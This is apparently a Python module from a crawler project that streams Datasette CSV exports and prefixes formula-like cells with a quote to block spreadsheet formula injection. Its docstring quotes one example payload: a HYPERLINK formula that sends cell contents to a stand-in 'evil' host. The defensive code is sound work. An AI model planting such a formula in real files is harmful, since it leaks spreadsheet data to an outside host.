"""CSV exports that are safe to open in a spreadsheet (no formula injection).

A crawled page decides what its title and body say, so a title such as
``=HYPERLINK("http://evil/?"&A1, "Klicka")`` would run as a formula in Excel
or LibreOffice when a researcher opens the export. As spreadsheet-safe CSV
writers do (OWASP "CSV injection"), a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``, which the
spreadsheet shows as text. Plain numbers (``-12``, ``+3.5``) are left alone.
Swedish Excel splits a CSV at ``;`` (the list separator of Swedish locales),
so each ``;``-separated part of a cell is treated the same way.

``CsvNeutraliser`` rewrites Datasette's CSV as it streams: records are cut at
a line end outside quotes, and only records with a suspicious cell are parsed
and written again; every other byte passes through unchanged. JSON exports
and the database download stay raw.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

__all__ = ["CsvNeutraliser", "spreadsheet_safe"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# A record that may hold a dangerous cell: one starting (after an optional
# opening quote) with a trigger, or a ';' followed by one.
_SUSPICIOUS = re.compile(r'(?:^|,)"?[=+\-@\t\r]|;[=+\-@\t\r]')
_LINE_END = "\r\n"  # Datasette's csv.writer uses the excel dialect


def _safe_part(part: str) -> str:
    if part.startswith(TRIGGERS) and not _NUMBER.fullmatch(part):
        return "'" + part
    return part


def spreadsheet_safe(cell: str) -> str:
    """The cell as a spreadsheet shows it as text: ``'`` before a formula-like start."""
    if ";" not in cell:
        return _safe_part(cell)
    return ";".join(_safe_part(part) for part in cell.split(";"))


def _rewrite(record: str) -> str:
    """One CSV record (with its line end, if any) with every cell made safe."""
    if not _SUSPICIOUS.search(record):
        return record
    ending = _LINE_END if record.endswith(_LINE_END) else ""
    rows = list(csv.reader(io.StringIO(record[: len(record) - len(ending)], newline="")))
    if len(rows) != 1:  # not one CSV record (an error message mid-stream): leave it
        return record
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator=_LINE_END).writerow([spreadsheet_safe(c) for c in rows[0]])
    return out.getvalue()[: -len(_LINE_END)] + ending


class CsvNeutraliser:
    """Feed CSV bytes in chunks, get safe CSV bytes out; ``finish()`` flushes the rest.

    A record ends at a line end with an even number of quotes before it (the
    quotes of a record written by ``csv.writer`` pair up), so a quoted cell
    holding line breaks stays in one record.
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="surrogateescape")
        self._tail = ""  # text after the last line end
        self._record: list[str] = []  # lines of a record still inside quotes
        self._quotes = 0

    def feed(self, data: bytes) -> bytes:
        text = self._tail + self._decoder.decode(data)
        lines = text.split(_LINE_END)
        self._tail = lines.pop()
        out = []
        for line in lines:
            self._record.append(line)
            self._quotes += line.count('"')
            if self._quotes % 2 == 0:
                out.append(_rewrite(_LINE_END.join(self._record) + _LINE_END))
                self._record, self._quotes = [], 0
        return "".join(out).encode("utf-8", "surrogateescape")

    def finish(self) -> bytes:
        rest = _LINE_END.join([*self._record, self._tail + self._decoder.decode(b"", final=True)])
        self._record, self._tail, self._quotes = [], "", 0
        return _rewrite(rest).encode("utf-8", "surrogateescape") if rest else b""
